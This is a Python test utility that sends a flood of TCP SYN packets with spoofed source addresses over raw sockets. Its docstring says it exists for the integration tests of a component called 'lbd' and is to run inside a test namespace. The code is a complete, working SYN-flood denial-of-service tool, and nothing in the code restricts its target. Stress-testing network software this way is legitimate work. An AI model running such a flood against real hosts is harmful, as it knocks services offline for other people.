#!/usr/bin/env python3
"""TCP SYN flood from spoofed sources, for the lbd integration tests only.

    synflood.py --dst IP --port PORT --seconds S [--net 100.64.0.0/10] [--copies N]

Sends SYNs with IP_HDRINCL from random addresses of --net and random ports to DST:PORT
until S seconds have passed, each one --copies times in a row (as a client retransmitting
its SYN would: a conntrack table then sees each spoofed flow looked up again), then prints
{"sent": N, "seconds": S} as one JSON line.
Run it inside a test namespace: the packets go to the namespace's own routes only.
"""
import argparse
import ipaddress
import json
import random
import socket
import struct
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--seconds", type=float, required=True)
    ap.add_argument("--net", default="100.64.0.0/10")
    ap.add_argument("--copies", type=int, default=1)
    a = ap.parse_args()
    net = ipaddress.ip_network(a.net)
    base, size = int(net.network_address), net.num_addresses
    dst = socket.inet_aton(a.dst)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    rnd = random.Random(1)
    sent, start = 0, time.monotonic()
    end = start + a.seconds
    while time.monotonic() < end:
        for _ in range(256):
            src = struct.pack("!I", base + rnd.randrange(size))
            pkt = syn(src, dst, rnd.randrange(1024, 65536), a.port, rnd.getrandbits(32))
            for _ in range(a.copies):
                try:
                    s.sendto(pkt, (a.dst, 0))
                    sent += 1
                except OSError:
                    pass
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 3)}))


if __name__ == "__main__":
    main()
